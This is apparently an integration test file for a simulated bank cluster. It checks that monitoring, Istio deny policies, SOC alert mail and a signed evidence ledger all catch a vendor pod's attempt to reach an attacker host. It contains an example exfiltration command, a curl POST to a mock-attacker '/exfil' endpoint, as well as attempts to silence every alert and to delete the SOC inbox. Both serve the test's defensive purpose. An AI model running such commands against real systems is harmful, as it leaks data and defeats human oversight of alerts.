// The evidence stack in a running cluster: every pod and the node scraped, the shipped PrometheusRule evaluated,
// the converter's attempts on the attacker alerting (BankToAttackerAttempt with no policy: detection without
// enforcement; IstioAuthZDeny once the mesh refuses it) and the SOC inbox receiving the Alertmanager's mail over
// SMTP; a clean run raises nothing. One attempt is enough: a counter that appears between two scrapes starts at
// zero, so its first increment shows to rate(). The ledger keeps it all, signed.
import { execFile } from 'node:child_process';
import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import { promisify } from 'node:util';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEFAULT_MANIFESTS } from '../src/control-plane/cluster.ts';
import type { Incident } from '../src/evidence/incidents/derive.ts';
import { startTestCluster, type TestCluster } from '../testing/cluster.ts';

const CONVERTER = ['trustusbank-bank-vendors', 'currency-converter'] as const;
const EXFIL = ['-X', 'POST', '-d', '{"probe":1}', 'http://mock-attacker.external-attacker.svc.cluster.local:8080/exfil'];
const INTERVAL_MS = 500;

describe('the evidence stack in the cluster', () => {
  let t: TestCluster;
  let prometheus: string;
  let inbox: string;
  beforeAll(async () => {
    t = await startTestCluster({ scrapeIntervalMs: INTERVAL_MS, evaluationIntervalMs: INTERVAL_MS });
    prometheus = t.cluster.forwards.find((f) => f.service === 'prometheus')!.url;
    inbox = t.cluster.forwards.find((f) => f.service === 'soc-inbox')!.url;
  }, 120_000);
  afterAll(async () => {
    await t?.close();
  });

  const query = async (q: string): Promise<{ metric: Record<string, string>; value: [number, string] }[]> => {
    const body = (await (await fetch(new URL(`api/v1/query?query=${encodeURIComponent(q)}`, prometheus))).json()) as { status: string; data: { result: { metric: Record<string, string>; value: [number, string] }[] } };
    expect(body.status).toBe('success');
    return body.data.result;
  };
  /** Poll (bounded) until `check` holds: the stack scrapes and evaluates on its own clock. */
  const eventually = async <T>(what: string, check: () => Promise<T | undefined>, timeoutMs = 60_000): Promise<T> => {
    const deadline = Date.now() + timeoutMs;
    for (;;) {
      const value = await check();
      if (value !== undefined) return value;
      if (Date.now() > deadline) throw new Error(`timed out waiting for ${what}`);
      await new Promise((resolve) => setTimeout(resolve, 200));
    }
  };
  /** A full evaluation round after now: what a rule would say has been said. */
  const settled = async (): Promise<void> => {
    const after = Date.now() + 2 * INTERVAL_MS;
    await eventually('two evaluation rounds', async () => (t.cluster.evidence.monitor.ruleGroups().every((g) => (g.lastEvaluation ?? 0) > after) ? true : undefined));
  };
  const firing = async (): Promise<string[]> => (await query('ALERTS{alertstate="firing"}')).map((s) => s.metric.alertname!).sort();
  const mails = async (): Promise<{ subject: string; text: string }[]> => {
    const body = (await (await fetch(new URL('api/v2/messages', inbox))).json()) as { items: { Content: { Headers: Record<string, string[]> }; Decoded?: { Subject: string; Text: string | null } }[] };
    return body.items.map((item) => ({ subject: item.Decoded?.Subject ?? '', text: item.Decoded?.Text ?? '' }));
  };

  it('scrapes every pod and the node, and runs the shipped rules; a clean run fires nothing', async () => {
    const pods = t.cluster.engine.allPods().length;
    const up = await eventually('every target up', async () => {
      const result = await query('up == 1');
      // Every pod, the node, and the evidence components themselves.
      return result.length === pods + 4 ? result : undefined;
    });
    expect(up.map((s) => s.metric.job)).toEqual(expect.arrayContaining(['trustusbank-node', 'account-mcp', 'mock-attacker', 'currency-converter', 'prometheus', 'alertmanager', 'soc-inbox']));
    expect(up.find((s) => s.metric.job === 'alertmanager')!.metric).toMatchObject({ namespace: 'trustusbank-observability' });
    expect(up.find((s) => s.metric.job === 'account-mcp')!.metric).toMatchObject({ namespace: 'trustusbank-bank-mcp', service: 'account-mcp' });
    const rules = (await (await fetch(new URL('api/v1/rules', prometheus))).json()) as { data: { groups: { rules: { name: string; health: string }[] }[] } };
    const names = rules.data.groups.flatMap((g) => g.rules.map((r) => r.name));
    expect(names).toEqual(expect.arrayContaining(['IstioAuthZDeny', 'BankToAttackerAttempt', 'KagentAccessPolicyDeny']));

    const clean = await t.chat('I am customer 12345. Please check my balance, list my recent transactions, and convert my balance to USD.');
    expect(clean.failed).toBe(false);
    await settled();
    expect(await firing()).toEqual([]);
    expect(await mails()).toEqual([]);
  }, 120_000);

  it('alerts BankToAttackerAttempt on the converter reaching the attacker with no policy, and mails the SOC', async () => {
    // The first attempt ever between the two: it alone must alert.
    expect((await t.curlFrom(...CONVERTER, EXFIL)).code).toBe(0);
    await settled();
    await eventually('BankToAttackerAttempt firing', async () => ((await firing()).includes('BankToAttackerAttempt') ? true : undefined));
    const alert = (await query('ALERTS{alertname="BankToAttackerAttempt",alertstate="firing"}'))[0]!.metric;
    expect(alert).toMatchObject({ source_workload: 'currency-converter', source_workload_namespace: 'trustusbank-bank-vendors', source_principal: 'spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter', severity: 'critical' });
    const mail = await eventually('the SOC mail', async () => (await mails()).find((m) => m.subject.includes('BankToAttackerAttempt')));
    expect(mail.subject).toMatch(/^\[FIRING:1\] BankToAttackerAttempt — TrustUsBank SOC alert$/);
    // The notifier watched as any component: the stack's Prometheus scrapes the Alertmanager's own counters.
    await eventually('the Alertmanager counting its mail', async () => (Number((await query('sum(alertmanager_notifications_total{job="alertmanager"})'))[0]?.value[1] ?? 0) >= 1 ? true : undefined));
    expect(mail.text).toContain('spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter');
    expect(mail.text).toContain('kubectl -n trustusbank-bank-vendors scale deploy/currency-converter --replicas=0');
  }, 120_000);

  it('alerts IstioAuthZDeny once the mesh refuses the converter, and BankToAttackerAttempt still counts the attempts', async () => {
    const policy = join(DEFAULT_MANIFESTS, 'policies', 'mesh', 'deny-bank-to-attacker.yaml');
    await t.cluster.engine.apply([{ file: policy, text: readFileSync(policy, 'utf8') }]);
    const attemptsBefore = Number((await query('sum(istio_tcp_connections_opened_total{reporter="source",destination_workload_namespace="external-attacker"})'))[0]!.value[1]);
    // The first refused attempt: a new failure series, which alone must alert.
    expect((await t.curlFrom(...CONVERTER, EXFIL)).code).toBe(56);
    await settled();
    await eventually('IstioAuthZDeny firing', async () => ((await firing()).includes('IstioAuthZDeny') ? true : undefined));
    const attemptsAfter = Number((await query('sum(istio_tcp_connections_opened_total{reporter="source",destination_workload_namespace="external-attacker"})'))[0]!.value[1]);
    expect(attemptsAfter).toBe(attemptsBefore + 1);
    const mail = await eventually('the IstioAuthZDeny mail', async () => (await mails()).find((m) => m.subject.includes('IstioAuthZDeny')));
    expect(mail.subject).toMatch(/^\[FIRING:\d+\] IstioAuthZDeny — TrustUsBank SOC alert$/);
    // The same through the CLI a presenter uses.
    const alerts = JSON.parse((await t.cli(['alerts', '--json'])).stdout) as { alerts: { name: string; state: string }[] };
    expect(alerts.alerts).toEqual(expect.arrayContaining([expect.objectContaining({ name: 'IstioAuthZDeny', state: 'firing' })]));
    const listed = await t.cli(['mail']);
    expect(listed.code).toBe(0);
    expect(listed.stdout).toContain('IstioAuthZDeny — TrustUsBank SOC alert');
  }, 120_000);

  it('keeps a signed ledger of it all: the policy, each deny, the alerts, the mail; `evidence verify` and an exported bundle check it', async () => {
    const kinds = (): string[] => t.cluster.ledger.records().map((r) => r.kind);
    await eventually('the IstioAuthZDeny mail in the ledger', async () => (t.cluster.ledger.records({ kinds: ['mail.received'] }).some((r) => String(r.data.subject).includes('IstioAuthZDeny')) ? true : undefined));
    expect(kinds()).toEqual(expect.arrayContaining(['policy.applied', 'mesh.deny', 'alert.firing', 'mail.sent', 'mail.received']));
    expect(t.cluster.ledger.records({ kinds: ['policy.applied'] }).map((r) => r.subject)).toContain('AuthorizationPolicy/external-attacker/deny-bank-to-attacker');
    const deny = t.cluster.ledger.records({ kinds: ['mesh.deny'] }).find((r) => r.subject === 'spiffe://cluster.local/ns/trustusbank-bank-vendors/sa/currency-converter');
    expect(deny?.data.reason).toMatch(/deny-bank-to-attacker/);
    expect(t.cluster.ledger.records({ kinds: ['alert.firing'] }).map((r) => r.subject)).toEqual(expect.arrayContaining(['BankToAttackerAttempt', 'IstioAuthZDeny']));
    // The clean chat of the first test left no deny in it.
    expect(t.cluster.ledger.records({ kinds: ['gateway.deny', 'accesspolicy.deny'] })).toEqual([]);

    const verify = await t.cli(['evidence', 'verify', '--json']);
    expect(verify.code).toBe(0);
    expect(JSON.parse(verify.stdout)).toMatchObject({ ok: true });
    const bundle = join(t.dataDir, 'bundle');
    const exported = await t.cli(['evidence', 'export', bundle]);
    expect(exported.code, exported.stderr).toBe(0);
    const alerts = JSON.parse(readFileSync(join(bundle, 'alerts.json'), 'utf8')) as { alerts: { name: string }[] };
    expect(alerts.alerts.map((a) => a.name)).toContain('IstioAuthZDeny');
    // The dashboard's data at export time: every panel's query answered, the AuthZ denies counted.
    const dashboard = JSON.parse(readFileSync(join(bundle, 'dashboard.json'), 'utf8')) as { panels: { title: string; answer: { status: string; data: { result: { value?: [number, string] }[] } } }[] };
    expect(dashboard.panels.length).toBeGreaterThanOrEqual(20);
    for (const panel of dashboard.panels) expect(panel.answer.status, panel.title).toBe('success');
    expect(Number(dashboard.panels.find((p) => p.title === 'AuthZ denies (mesh)')!.answer.data.result[0]!.value![1])).toBeGreaterThan(0);
    const denyLog = JSON.parse(readFileSync(join(bundle, 'deny-log.json'), 'utf8')) as { lines: { layer: string; policy?: string; traceId?: string }[] };
    const meshDeny = denyLog.lines.find((l) => l.layer === 'mesh' && l.policy === 'external-attacker/deny-bank-to-attacker')!;
    expect(meshDeny.traceId).toMatch(/^[0-9a-f]{32}$/);
    // The incidents and the traces they cite: ztunnel's refusal, a trace of its own here (curl sends no trace context).
    const bundled = JSON.parse(readFileSync(join(bundle, 'incidents.json'), 'utf8')) as { incidents: Incident[] };
    const cited = bundled.incidents.find((i) => i.cause.key === 'trustusbank-bank-vendors/currency-converter')!.links.traceIds;
    expect(cited).toContain(meshDeny.traceId);
    const traces = JSON.parse(readFileSync(join(bundle, 'traces.json'), 'utf8')) as Record<string, { batches: { scopeSpans: { spans: { attributes: { key: string; value: { stringValue?: string } }[] }[] }[] }[] }>;
    const denySpans = traces[meshDeny.traceId!]!.batches.flatMap((b) => b.scopeSpans.flatMap((s) => s.spans));
    expect(denySpans.some((s) => s.attributes.some((a) => a.key === 'trustusbank.policy' && a.value.stringValue === 'external-attacker/deny-bank-to-attacker'))).toBe(true);
    const { stdout } = await promisify(execFile)(process.execPath, [join(bundle, 'verify.mjs')]);
    expect(stdout).toMatch(/^ledger OK: \d+ records/);

    // The incident the critical alerts opened, from the ledger: the converter, its third party, contained by the deny.
    const listed = await t.cli(['incidents', 'list', '--json']);
    expect(listed.code, listed.stderr).toBe(0);
    const incidents = JSON.parse(listed.stdout) as Incident[];
    const incident = incidents.find((i) => i.cause.key === 'trustusbank-bank-vendors/currency-converter')!;
    expect(incident.alerts).toEqual(expect.arrayContaining(['BankToAttackerAttempt', 'IstioAuthZDeny']));
    expect(incident).toMatchObject({ status: 'contained', thirdParty: { dora: { providerLegalName: 'Acme FX Ltd' } }, classification: { major: true } });
    expect(incident.classification.criteria.find((c) => c.article === 'Art. 5')!.evidence).toMatch(/^1 connection to the attacker completed/);
    expect(incident.timeline.map((e) => e.kind)).toEqual(expect.arrayContaining(['alert.firing', 'mesh.deny', 'mail.received']));
    await eventually('the incident in the ledger', async () => (t.cluster.ledger.records({ kinds: ['incident.opened'] }).some((r) => r.subject === incident.id) ? true : undefined));
    const shown = await t.cli(['incidents', 'show', incident.id]);
    expect(shown.stdout).toContain(`# ${incident.id}: `);
    expect(shown.stdout).toContain('Acme FX Ltd (LEI ACMEFX00ACMEFXLTD070, GB)');
  }, 90_000);

  it('keeps the compromised converter away from the Alertmanager and the inbox: it cannot silence or forge alerts', async () => {
    const alertmanager = t.cluster.forwards.find((f) => f.service === 'alertmanager')!;
    const silence = JSON.stringify({ matchers: [{ name: 'alertname', value: '.+', isRegex: true, isEqual: true }], startsAt: new Date().toISOString(), endsAt: new Date(Date.now() + 3_600_000).toISOString(), createdBy: 'converter', comment: 'nothing to see' });
    for (const host of ['127.0.0.1', 'localhost']) {
      const attempt = await t.curlFrom(...CONVERTER, ['-X', 'POST', '-H', 'content-type: application/json', '-d', silence, `http://${host}:${alertmanager.port}/api/v2/silences`]);
      expect(attempt.code).not.toBe(0);
      const inboxAttempt = await t.curlFrom(...CONVERTER, ['-X', 'DELETE', `http://${host}:${new URL(inbox).port}/api/v1/messages`]);
      expect(inboxAttempt.code).not.toBe(0);
    }
    const silences = (await (await fetch(new URL('api/v2/silences', alertmanager.url))).json()) as unknown[];
    expect(silences).toEqual([]);
    expect((await mails()).length).toBeGreaterThan(0);
  }, 150_000); // four `exec … curl`, each a CLI process: ~10 s apiece with the whole suite running

  it('answers bad PromQL with bad_data, and reset clears alerts and mail', async () => {
    const bad = await fetch(new URL('api/v1/query?query=sum(', prometheus));
    expect(bad.status).toBe(400);
    expect(await bad.json()).toMatchObject({ status: 'error', errorType: 'bad_data' });
    await t.cluster.evidence.reset();
    expect(await mails()).toEqual([]);
    const silenced = (await (await fetch(new URL('api/v2/alerts', t.cluster.forwards.find((f) => f.service === 'alertmanager')!.url))).json()) as unknown[];
    expect(silenced).toEqual([]);
  });
});
